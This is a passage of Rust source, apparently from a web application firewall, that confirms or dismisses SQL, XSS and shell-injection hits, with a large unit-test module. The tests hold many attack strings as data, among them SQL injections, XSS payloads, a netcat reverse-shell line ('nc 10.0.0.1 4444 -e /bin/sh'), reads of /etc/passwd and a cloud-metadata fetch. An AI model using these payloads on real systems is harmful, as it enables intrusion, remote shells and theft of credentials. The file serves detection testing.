/// bytes it matched: then it counts only where the pattern's bytes are in a form the sender wrote, or where the
/// parser of its language finds an injection in those forms (a value read as a plain one). An Arabic title,
/// `منتج_ممتاز،_أنصح_به_بشدة_:)`, decodes to `EF*,_EE*'2..._:)`, a string libinjection reads as SQL; an injection
/// written beside such letters is still one in the forms read.
fn as_fragment(
    confirm: Confirm,
    transformed: &[u8],
    hit: &Hit,
    decoded: &[Cow<'_, [u8]>],
    map: UnicodeMap,
    request: Request<'_>,
) -> Confirmation {
    let invented = !decoded.iter().any(|form| form.as_ref() == transformed)
        && decode::invented(&decoded[0], transformed, map);
    let matched = transformed.get(hit.span.clone()).unwrap_or(transformed);
    if !invented
        || decoded
            .iter()
            .any(|form| holds_ignoring_case(form, matched))
    {
        return Confirmation {
            confirmed: true,
            reason: FRAGMENT.to_owned(),
        };
    }
    let site = request.site();
    match decoded
        .iter()
        .find_map(|form| parse(confirm, form, Shape::Token, map, site))
    {
        Some(reason) => Confirmation {
            confirmed: true,
            reason,
        },
        None => Confirmation {
            confirmed: false,
            reason: format!(
                "letters the rule's Unicode decoding read as their code points' low bytes, and {} in the value as written",
                not_found(confirm)
            ),
        },
    }
}

/// What a confirmer reads: the value as received and its `decoded` forms, and the form the rule's transforms made
/// unless those invented its bytes. (PHP URL-decodes cookies, so a cookie's `+` is a blank there.)
fn with_transformed<'a>(
    mut forms: Vec<Cow<'a, [u8]>>,
    raw: &[u8],
    transformed: &'a [u8],
    map: UnicodeMap,
    request: Request<'_>,
) -> Vec<Cow<'a, [u8]>> {
    if !forms.iter().any(|form| form.as_ref() == transformed)
        && !decode::invented(raw, transformed, map)
        && (request.cookie || !decode::plus_read_as_blank(raw, transformed))
    {
        forms.push(Cow::Borrowed(transformed));
    }
    forms
}

#[cfg(test)]
mod tests {
    use super::*;

    fn confirmed(kind: Confirm, value: &str) -> bool {
        confirm(
            kind,
            value.as_bytes(),
            value.as_bytes(),
            Hit::default(),
            UnicodeMap::default(),
            Request::default(),
        )
        .confirmed
    }

    /// The confirmation of a hit on the whole of `value` (libinjection's), sent as `request` says.
    fn whole_value(kind: Confirm, value: &str, request: Request<'_>) -> Confirmation {
        let bytes = value.as_bytes();
        let hit = Hit {
            span: 0..bytes.len(),
            phrase: false,
        };
        confirm(kind, bytes, bytes, hit, UnicodeMap::default(), request)
    }

    #[test]
    fn a_fragment_counts_only_in_the_bytes_its_sender_wrote() {
        // 942100's decoding: ModSecurity's `utf8toUnicode` then `urlDecodeUni`.
        let judged = |value: &str| {
            let map = UnicodeMap::default();
            let escaped = apply(Transform::Utf8ToUnicode, value.as_bytes(), map);
            let transformed = apply(Transform::UrlDecodeUni, &escaped, map);
            let hit = Hit {
                span: 0..transformed.len(),
                phrase: false,
            };
            confirm(
                Confirm::Sql,
                value.as_bytes(),
                &transformed,
                hit,
                map,
                Request::default(),
            )
        };
        let title = judged("منتج_ممتاز،_أنصح_به_بشدة_:)");
        assert!(!title.confirmed, "{}", title.reason);
        assert!(judged("منتج_'or'1'='1").confirmed);
        assert!(judged("1'or'1'='1").confirmed);
    }

    #[test]
    fn a_body_sent_as_it_is_is_named_by_its_path() {
        let judged = |target: &str, body: &str| {
            let request = Request {
                method: "POST",
                target,
                ..Request::default()
            };
            let bytes = body.as_bytes();
            confirm(
                Confirm::Sql,
                bytes,
                bytes,
                Hit::default(),
                UnicodeMap::default(),
                request,
            )
            .confirmed
        };
        let query = "SELECT Id, DisplayName FROM Customer WHERE DisplayName LIKE '%Smith%'";
        assert!(!judged(
            "/v3/company/4620274875985209/query?minorversion=75",
            query
        ));
        assert!(judged("/v3/company/4620274875985209/notes", query));
        assert!(judged("/v3/company/1/query", "1' or '1'='1"));
    }

    #[test]
    fn markdown_shows_its_code() {
        let request = Request {
            name: b"json.article.body_markdown",
            ..Request::default()
        };
        let judged = |value: &str| whole_value(Confirm::Xss, value, request).confirmed;
        let post = "## The dark-mode flash\n\nPut it in `<head>`:\n\n```html\n<script is:inline>\n  document.documentElement.dataset.theme = t;\n</script>\n```\n";
        assert!(!judged(post));
        assert!(judged(&format!("{post}\n<img src=x onerror=alert(1)>")));
    }

    #[test]
    fn a_json_string_is_judged_by_its_text() {
        let judged = |value: &str| whole_value(Confirm::Xss, value, Request::default());
        let form = r#""id=2514886&rownum=0&ajax=0&feedback%5Btext%5D=%3Cp+dir%3D%22ltr%22+style%3D%22text-align%3A+left%3B%22%3EGood+work%3C%2Fp%3E&grade=8""#;
        let moodle = judged(form);
        assert!(!moodle.confirmed, "{}", moodle.reason);
        assert!(judged(r#""<script>alert(1)<\/script>""#).confirmed);
        assert!(judged(r#""id=1&feedback=%3Cimg+src%3Dx+onerror%3Dalert(1)%3E""#).confirmed);
    }

    #[test]
    fn a_urls_query_values_are_judged_each() {
        let referer = "https://x.example/p?a=1&q=%3Cscript%3Ealert(1)%3C%2Fscript%3E";
        assert!(confirmed(Confirm::Xss, referer));
        let amadeus = "https://x.example/p?a=1&SO_GL=%3C%3Fxml%20version%3D%221.0%22%3F%3E%3CSO_GL%3E%3CNAME%3ESITE%3C%2FNAME%3E%3C%2FSO_GL%3E";
        assert!(!confirmed(Confirm::Xss, amadeus));
        assert!(confirmed(Confirm::Sql, "https://x.example/?q=1' or '1'='1"));
        let jira = "https://x.atlassian.net/issues/?jql=text+~+%22%5C%22SSO+%2F+SAML%5C%22%22+AND+project+in+%28OPS%2C+WEB%29";
        assert!(!confirmed(Confirm::Sql, jira));
        assert!(confirmed(
            Confirm::Sql,
            "https://x.example/?jql=x%27+OR+%271%27%3D%271"
        ));
    }

    #[test]
    fn a_signed_session_cookie_is_judged_by_the_sql_parser() {
        // Rails' encrypted cookie, URL-encoded: libinjection reads `1c` in its `--`.
        let session = "1%2FQ%2BA1NNjghwVrVrqFtHjNlns0wGmChQbueouNNM%2BFFPj8CTAObkAmb--%2FMl7PNO88PNCyM4n--qXhuc3BrulP9dh1Q4gYdkg%3D%3D";
        let cookie = Request {
            cookie: true,
            ..Request::default()
        };
        let judged = |value: &str| {
            confirm(
                Confirm::Sql,
                value.as_bytes(),
                value.as_bytes(),
                Hit::default(),
                UnicodeMap::default(),
                cookie,
            )
            .confirmed
        };
        assert!(!judged(session));
        assert!(judged("1%27%20or%20%271%27%3D%271--"));
    }

    #[test]
    fn a_cookie_quoted_as_python_quotes_one_is_read_unescaped() {
        assert_eq!(
            unquoted(br#""{\"order\": \"\"\054 \"size\": \"50\"}""#).as_ref(),
            br#"{"order": "", "size": "50"}"#
        );
        assert_eq!(unquoted(br#""a\\b""#).as_ref(), br"a\b");
        for as_sent in [&br#""a"b""#[..], br#""a\"#, b"plain", br#""x\""#] {
            assert_eq!(unquoted(as_sent).as_ref(), as_sent);
        }
        let cookie = Request {
            cookie: true,
            ..Request::default()
        };
        let arxiv = r#""{\"order\": \"\"\054 \"size\": \"50\"\054 \"abstracts\": \"show\"}""#;
        assert!(!confirmed_at(Confirm::Sql, arxiv, "\\\"", cookie));
        assert!(confirmed_at(
            Confirm::Sql,
            r#""x\" or 1=1\054 --""#,
            "or",
            cookie
        ));
    }

    #[test]
    fn a_boolean_search_is_judged_by_its_language_but_its_files_by_their_names() {
        let pubmed = "(tirzepatide OR lithium) AND (review[pt] OR clinical trial[pt])";
        assert!(!confirmed(Confirm::Sql, pubmed));
        assert!(confirmed(Confirm::Code, "etc/passwd OR shadow"));
    }

    #[test]
    fn a_statements_keyword_among_words_alone_is_a_heading_or_a_name() {
        assert!(!confirmed(Confirm::Sql, "Update (Jan 14):"));
        assert!(!confirmed(
            Confirm::Sql,
            "Phone case (silicone) for iPhone 15"
        ));
        assert!(confirmed(
            Confirm::Sql,
            "SELECT CONCAT(0x717a786a71,(SELECT (CASE"
        ));
        assert!(confirmed(Confirm::Sql, "update users set role=1"));
    }

    #[test]
    fn sql_in_a_formula_counts_where_it_works_as_an_injection() {
        assert!(!confirmed(
            Confirm::Sql,
            "=QUERY(A:G,\"select * where B contains 'Kava' and G is not null\")"
        ));
        assert!(!confirmed(
            Confirm::Sql,
            "=IFERROR(VLOOKUP([@SKU],Products!A:C,3,FALSE),\"-\")"
        ));
        assert!(confirmed(Confirm::Sql, "=IF(x' or '1'='1)"));
        assert!(confirmed(
            Confirm::Sql,
            "=SUM(1)' union select password from users where '1'='1"
        ));
    }

    #[test]
    fn a_name_and_a_number_is_a_command_only_where_the_command_takes_one() {
        assert!(confirmed(Confirm::Shell, "sleep 5"));
        assert!(confirmed(Confirm::Shell, "nc attacker 4444"));
        assert!(!confirmed(Confirm::Shell, "ls 300 lexus"));
        assert!(!confirmed(Confirm::Shell, "SSH 300"));
        assert!(confirmed(Confirm::Sql, "1 union select 1"));
    }

    #[test]
    fn injections_are_confirmed_in_their_encodings() {
        assert!(confirmed(Confirm::Sql, "1' or '1'='1"));
        assert!(confirmed(Confirm::Sql, "1%27%20or%20%271%27%3D%271"));
        assert!(confirmed(
            Confirm::Sql,
            "1%2527%2520union%2520select%2520password%2520from%2520users--"
        ));
        assert!(confirmed(Confirm::Xss, "<script>alert(1)</script>"));
        assert!(confirmed(
            Confirm::Xss,
            "&lt;img src=x onerror=alert(1)&gt;"
        ));
        assert!(confirmed(Confirm::Xss, "\\u003csvg onload=alert(1)\\u003e"));
        // Rich text showing an escaped example is read as a browser reads it; its own markup still counts.
        let post =
            "<p>I tried <code>&lt;img src=x onerror=alert(1)&gt;</code> and it was escaped.</p>";
        assert!(!confirmed(Confirm::Xss, post));
        assert!(confirmed(
            Confirm::Xss,
            "<p>I tried <code>x</code> <img src=x onerror=alert(1)> and it was escaped.</p>"
        ));
        // So is a block editor's post of several lines.
        let blocks = "<!-- wp:paragraph -->\n<p>Here is how I did it:</p>\n<!-- /wp:paragraph -->\n<!-- wp:code -->\n\
            <pre class=\"wp-block-code\"><code>&lt;script src=\"https://cdn.example/w.js\"&gt;&lt;/script&gt;</code></pre>\n\
            <!-- /wp:code -->";
        assert!(!confirmed(Confirm::Xss, blocks));
        assert!(confirmed(Confirm::Xss, &blocks.replace("&lt;", "<")));
        assert!(confirmed(Confirm::Shell, "127.0.0.1; cat /etc/passwd"));
        assert!(confirmed(Confirm::Shell, "x|nc 10.0.0.1 4444 -e /bin/sh"));
        // A fragment of no data shape scores as its pattern says.
        assert!(confirmed(Confirm::Sql, "database ("));
    }

    fn confirmed_at(kind: Confirm, value: &str, hit: &str, request: Request<'_>) -> bool {
        let start = value.find(hit).expect("the hit is in the value");
        confirm(
            kind,
            value.as_bytes(),
            value.as_bytes(),
            Hit {
                span: start..start + hit.len(),
                phrase: false,
            },
            UnicodeMap::default(),
            request,
        )
        .confirmed
    }

    #[test]
    fn a_generated_password_is_judged_by_the_parsers() {
        let field = |name: &'static str| Request {
            name: name.as_bytes(),
            ..Request::default()
        };
        for (value, hit) in [
            ("H!ZR,(l9CZgBrX^%Jh,Eb8V5", "H!ZR"),
            ("8>1;)'#G+1b^lyxh{tx(I`=", "8>1"),
        ] {
            assert!(!confirmed_at(
                Confirm::Sql,
                value,
                hit,
                field("json.password")
            ));
            // The same characters in another field, or too few of them, are a fragment.
            assert!(confirmed_at(
                Confirm::Sql,
                value,
                hit,
                field("json.comment")
            ));
        }
        assert!(confirmed_at(Confirm::Sql, "8>1;)'#", "8>1", field("pwd")));
        for name in [
            "pwd",
            "password1",
            "password_confirmation",
            "json.user.newPassword",
            "pass",
            "password-new",
            "password-confirm",
            "pass1-text",
            "user[password_repeat]",
        ] {
            assert!(is_password_field(name.as_bytes()), "{name}");
        }
        for name in [
            "passport",
            "compass",
            "json.password_hint",
            "bypass",
            "new",
            "compass-new",
        ] {
            assert!(!is_password_field(name.as_bytes()), "{name}");
        }
        // What parses as an injection, spells SQL's words or belongs to a family without a parser counts.
        assert!(confirmed_at(
            Confirm::Sql,
            "P@ssw0rd'||'1'='1",
            "'||'",
            field("password")
        ));
        let spelled = "Zz9'UNION(SELECT(password)FROM(users))#";
        assert!(confirmed_at(
            Confirm::Sql,
            spelled,
            "UNION",
            field("password")
        ));
        let traversal = "..\\..\\..\\Windows\\System32\\win.ini";
        assert!(confirmed_at(
            Confirm::Code,
            traversal,
            "win.ini",
            field("password")
        ));
    }

    #[test]
    fn a_query_string_is_judged_by_its_values() {
        let plain = Request::default();
        // An ad server's targeting: `=script ` is the pairs' syntax before a keyword.
        let targeting = "pos=top&kw=script font|pos=side";
        assert!(!confirmed_at(Confirm::Shell, targeting, "=script ", plain));
        assert!(confirmed_at(
            Confirm::Shell,
            "a=1&b=sleep 5",
            "=sleep ",
            plain
        ));
        assert!(confirmed_at(
            Confirm::Shell,
            "a=1&b=x;cat /etc/passwd",
            ";cat ",
            plain
        ));
        assert!(confirmed_at(
            Confirm::Sql,
            "a=1&id=1' or '1'='1",
            "' or '",
            plain
        ));
        // A hit inside a value of no data shape scores as written, as the value alone would.
        assert!(confirmed_at(
            Confirm::Code,
            "a=1&file=../../etc/passwd",
            "etc/passwd",
            plain
        ));
        // A form a script serialised (Phoenix LiveView's `value`): escaped brackets in names, each value
        // URL-decoded before it is judged, and a hit across two pairs in neither of them.
        let form = "user%5Bbio%5D=%24%28document%29.ready+not+firing&_target=user%5Bname%5D";
        let decoded = "user[bio]=$(document).ready not firing&_target=user[name]";
        let span = decoded.find("document").expect("in the value")..decoded.len();
        let across = confirm(
            Confirm::Xss,
            form.as_bytes(),
            decoded.as_bytes(),
            Hit {
                span,
                ..Hit::default()
            },
            UnicodeMap::default(),
            plain,
        );
        assert!(!across.confirmed, "{}", across.reason);
        assert!(confirmed(
            Confirm::Xss,
            "user%5Bbio%5D=%3Cscript%3Ealert(1)%3C%2Fscript%3E&_target=user%5Bbio%5D"
        ));
    }

    #[test]
    fn a_violation_reports_code_sample_needs_a_parser() {
        let headers = [("content-type", &b"application/csp-report"[..])];
        let report = Request {
            headers: &headers,
            name: b"json.csp-report.script-sample",
            cookie: false,
            ..Request::default()
        };
        assert!(!confirmed_at(
            Confirm::Xss,
            "console.log(",
            "console.log(",
            report
        ));
        assert!(!confirmed_at(
            Confirm::Code,
            "console.log(",
            "console.log(",
            report
        ));
        assert!(confirmed_at(
            Confirm::Xss,
            "<img src=x onerror=alert(1)>",
            "onerror",
            report
        ));
        // The same fragment elsewhere scores as written.
        assert!(confirmed_at(
            Confirm::Xss,
            "console.log(",
            "console.log(",
            Request::default()
        ));
    }

    #[test]
    fn a_field_of_html_is_judged_by_what_runs_in_it() {
        let head = Request {
            headers: &[("Host", b"shop.example")],
            name: b"json.headHtml",
            ..Request::default()
        };
        let preconnect = r#"<link rel="preconnect" href="https://fonts.googleapis.com">"#;
        assert!(!confirmed_at(Confirm::Xss, preconnect, "<link", head));
        let base = r#"<base href="https://shop.example/">"#;
        assert!(!confirmed_at(Confirm::Xss, base, "<base", head));
        for runs in [
            r#"<link rel="stylesheet" href="https://evil.example/x.css">"#,
            r#"<base href="https://evil.example/">"#,
            "<script>alert(1)</script>",
        ] {
            assert!(confirmed_at(Confirm::Xss, runs, "<", head), "{runs}");
        }
        // An element alone elsewhere scores as written.
        assert!(confirmed_at(
            Confirm::Xss,
            preconnect,
            "<link",
            Request::default()
        ));
    }

    #[test]
    fn a_soql_clause_is_the_portals_query_language() {
        let clause = Request {
            name: b"$where",
            ..Request::default()
        };
        let condition = "work_description like '%ADU%' AND issue_date > '2024-01-01'";
        assert!(!confirmed_at(Confirm::Sql, condition, "like '", clause));
        assert!(confirmed_at(Confirm::Sql, "1 or 1=1", "or 1=1", clause));
        // The clause's name, by the condition it names.
        let name = |value: &'static [u8]| Request {
            name: b"$where",
            is_argument_name: true,
            named_value: Some(value),
            ..Request::default()
        };
        assert!(!confirmed_at(
            Confirm::Sql,
            "$where",
            "$where",
            name(b"boro = 'Queens'")
        ));
        assert!(confirmed_at(
            Confirm::Sql,
            "$where",
            "$where",
            name(b"sleep(5000)")
        ));
        // A JSON member named so is MongoDB's operator.
        let member = Request {
            name: b"json.$where",
            is_argument_name: true,
            ..Request::default()
        };
        assert!(confirmed_at(Confirm::Sql, "json.$where", "$where", member));
    }

    #[test]
    fn a_path_under_a_name_for_a_url_is_a_url() {
        let page = Request {
            name: b"_xfRequestUri",
            ..Request::default()
        };
        let path = "/threads/docker-container-can-t-reach-host-network.484787/";
        assert!(!confirmed_at(
            Confirm::Shell,
            path,
            "/threads/docker-",
            page
        ));
        assert!(confirmed_at(Confirm::Shell, "/x;id", ";id", page));
        // Elsewhere a path alone stays a fragment.
        assert!(confirmed_at(
            Confirm::Shell,
            path,
            "/threads/docker-",
            Request::default()
        ));
    }

    #[test]
    fn a_percentage_or_a_placeholder_is_no_modulo() {
        for text in [
            "Prospecting - LAL 1% (Purchasers)",
            "Save 20% (today only)",
            "Share \"%@\" with.",
        ] {
            assert!(sql::percent_signs(text.as_bytes()).is_some(), "{text}");
            assert!(!confirmed(Confirm::Sql, text), "{text}");
        }
        assert!(confirmed(Confirm::Sql, "1% (select 1)"));
    }

    #[test]
    fn an_odata_option_in_a_urls_query_is_the_languages() {
        let batch = Request {
            name: b"json.requests.0.url",
            ..Request::default()
        };
        let url = "https://management.azure.com/subscriptions/1/providers/Microsoft.Consumption/usageDetails?$filter=properties%2FusageStart%20ge%20'2025-01-01'&api-version=2023-05-01";
        assert!(!confirmed_at(Confirm::Sql, url, "$filter", batch));
        let smuggled = "https://shop.example/api?user[$ne]=1&x='";
        assert!(confirmed_at(Confirm::Sql, smuggled, "$ne", batch));
    }

    #[test]
    fn a_dollar_between_names_joins_them() {
        let paging = "Page$First";
        assert!(!confirmed_at(
            Confirm::Sql,
            paging,
            "$First",
            Request::default()
        ));
        assert!(confirmed_at(
            Confirm::Sql,
            "$where",
            "$where",
            Request::default()
        ));
    }

    #[test]
    fn a_cookie_is_shaped_as_applications_read_it() {
        let cookie = Request {
            headers: &[],
            name: b"sf_redirect",
            cookie: true,
            ..Request::default()
        };
        // WebLogic's session id with its server's route: no shell reads its `!-1`.
        let weblogic = "vQEj23-SOVYoTjD5YuMyLt-DiCgGstza!-1630794642!1700000000000";
        assert!(!confirmed_at(Confirm::Shell, weblogic, "!-1", cookie));
        assert!(confirmed_at(Confirm::Shell, "x;!-1", "!-1", cookie));
        let adf = Request {
            name: b"javax.faces.ViewState",
            ..Request::default()
        };
        assert!(!confirmed_at(Confirm::Shell, "!-6p693zdqiv", "!-6", adf));
        assert!(confirmed_at(Confirm::Shell, "!-1", "!-1", adf));
        let frame =
            "%7B%22file%22%3A%22%2Fvar%2Fwww%2Fshop%2Fsrc%2FController.php%22%2C%22line%22%3A86%7D";
        assert!(!confirmed_at(Confirm::Code, frame, "%2Fvar%2Fwww", cookie));
        assert!(confirmed_at(
            Confirm::Code,
            frame,
            "%2Fvar%2Fwww",
            Request::default()
        ));
        // In RFC 6265's double quotes, the value the parser takes off: an object literal, or an injection.
        let state = "\"{'search':[{'reqUrl':'/search.pang','isValid':true}]}\"";
        assert!(!confirmed_at(Confirm::Sql, state, "{'search'", cookie));
        assert!(confirmed_at(
            Confirm::Sql,
            "\"1' or '1'='1\"",
            "' or '1'='1",
            cookie
        ));
    }

    #[test]
    fn a_whole_query_is_one_in_every_decoded_form() {
        let search = Request {
            headers: &[],
            name: b"q",
            cookie: false,
            ..Request::default()
        };
        assert!(!confirmed_at(
            Confirm::Sql,
            "status = 'open' AND assignee = currentUser()",
            "AND assignee",
            search
        ));
        assert!(confirmed_at(
            Confirm::Sql,
            "1%20union%20select%20username%2C%20password%20from%20users",
            "union%20select",
            search
        ));
        // The query is data to the other parsers too: a comparison is no tag, a script in a literal is one.
        let jql = Request {
            headers: &[],
            name: b"jql",
            cookie: false,
            ..Request::default()
        };
        let due = "filter = \"My open bugs\" AND duedate <= 7d";
        assert!(!confirmed_at(Confirm::Xss, due, "<= 7d", jql));
        let script = "summary ~ \"<script>alert(1)</script>\"";
        assert!(confirmed_at(Confirm::Xss, script, "<script>", jql));
        // A literal's escaped quotes are the language's own (JQL's, SOQL's): read inside the literal.
        let phrase =
            "text ~ \"\\\"SSO / SAML\\\"\" AND status was \"In Progress\" ON \"2024-02-14\"";
        assert!(!confirmed_at(Confirm::Sql, phrase, "AND", jql));
        let q = Request {
            name: b"q",
            ..Request::default()
        };
        let soql = "SELECT Id FROM Contact WHERE LastName = 'O\\'Sullivan' ORDER BY Name";
        assert!(!confirmed_at(Confirm::Sql, soql, "SELECT", q));
        assert!(confirmed_at(Confirm::Sql, "x' OR '1'='1' --", "OR", q));
    }

    #[test]
    fn an_odata_expression_needs_a_parser() {
        let filter = Request {
            headers: &[],
            name: b"$filter",
            cookie: false,
            ..Request::default()
        };
        let expression =
            "contains(Name,'drop table (x)') or startswith(Sku,'O''Re') and Price gt 10";
        assert!(!confirmed_at(
            Confirm::Sql,
            expression,
            "startswith(",
            filter
        ));
        assert!(confirmed_at(
            Confirm::Sql,
            "1 or 1=1; drop table users--",
            "drop table",
            filter
        ));
        assert!(confirmed_at(
            Confirm::Sql,
            "startswith(Name,'x') or 1=1; drop table users--",
            "drop table",
            filter
        ));
        assert!(confirmed_at(
            Confirm::Sql,
            "contains(Name,'x') or '1'='1",
            "'1'='1",
            filter
        ));
        // OData's own functions are its language, not SQL's.
        assert!(!confirmed_at(
            Confirm::Sql,
            "Emails/any(e: endswith(e, 'contoso.com'))",
            "endswith(",
            filter
        ));
        // A fragment under another name scores as written.
        let call = "startswith(name,'Jo')";
        assert!(!confirmed_at(Confirm::Sql, call, "startswith(", filter));
        assert!(confirmed_at(
            Confirm::Sql,
            call,
            "startswith(",
            Request::default()
        ));
    }

    #[test]
    fn ordinary_text_is_not() {
        assert!(!confirmed(
            Confirm::Sql,
            "Please select the size you'd like from the drop-down"
        ));
        assert!(!confirmed(
            Confirm::Sql,
            r#"{"filters":[{"field":"price","op":">","value":10}]}"#
        ));
        // A JSON document is read by its strings: its quotes are JSON's, not a string an injection closes.
        assert!(!confirmed(
            Confirm::Sql,
            r#"["from the set","full screen with","and the harbour the"]"#
        ));
        assert!(confirmed(Confirm::Sql, r#"{"id":"1' or '1'='1"}"#));
        assert!(confirmed(
            Confirm::Xss,
            r#"{"n":"<img src=x onerror=alert(1)>"}"#
        ));
        assert!(confirmed(
            Confirm::Shell,
            r#"["ok","127.0.0.1; cat /etc/passwd"]"#
        ));
        // XML documents declare their version and namespaces; an active namespace still counts.
        assert!(!confirmed(
            Confirm::Xss,
            r#"<?xml version="1.0"?><a:propfind xmlns:a="DAV:"><a:prop><a:getetag/></a:prop></a:propfind>"#
        ));
        assert!(!confirmed(Confirm::Xss, "<?xml version"));
        assert!(confirmed(
            Confirm::Xss,
            "<?xml version><script>alert(1)</script>"
        ));
        assert!(!confirmed(
            Confirm::Xss,
            r#"<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><s:Body/></s:Envelope>"#
        ));
        assert!(confirmed(
            Confirm::Xss,
            r#"<acp xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="http://x.example/"/></acp>"#
        ));
        assert!(!confirmed(
            Confirm::Xss,
            "Tom & Jerry <3 the new season, we watched it twice"
        ));
        assert!(!confirmed(
            Confirm::Xss,
            r#"<p>Merci <span style="color: #e03e2d;">beaucoup</span> pour la livraison</p>"#
        ));
        assert!(!confirmed(
            Confirm::Shell,
            "Tom & Jerry; cat lovers will like it"
        ));
        // A phrase is judged by the parsers; a list of names after a command is not a phrase.
        assert!(!confirmed(Confirm::Shell, "zsh is the best!"));
        assert!(confirmed(Confirm::Shell, "ls foo bar"));
        assert!(!confirmed(Confirm::Sql, "union was a great select"));
        assert!(confirmed(Confirm::Sql, "union select password from users"));
        assert!(!confirmed(Confirm::Xss, "JavaScript: The Good Parts"));
        // A spreadsheet formula is judged by the parsers too: its `IF(` is no conditional injection.
        assert!(!confirmed(Confirm::Sql, r#"=IF(C4="", "", D4/C4)"#));
        assert!(confirmed(
            Confirm::Code,
            r#"=IMPORTXML("http://169.254.169.254/latest/meta-data/", "//a")"#
        ));
    }

    #[test]
    fn a_plus_the_application_reads_is_no_blank() {
        let judged = |raw: &str, transformed: &str| {
            confirm(
                Confirm::Sql,
                raw.as_bytes(),
                transformed.as_bytes(),
                Hit::default(),
                UnicodeMap::default(),
                Request::default(),
            )
            .confirmed
        };
        assert!(!judged("john+or@var.es", "john or@var.es"));
        let in_a_cookie = Request {
            cookie: true,
            ..Request::default()
        };
        assert!(
            confirm(
                Confirm::Sql,
                b"john+or@var.es",
                b"john or@var.es",
                Hit::default(),
                UnicodeMap::default(),
                in_a_cookie,
            )
            .confirmed
        );
        assert!(judged("1'+or+'1'='1", "1' or '1'='1"));
    }
}
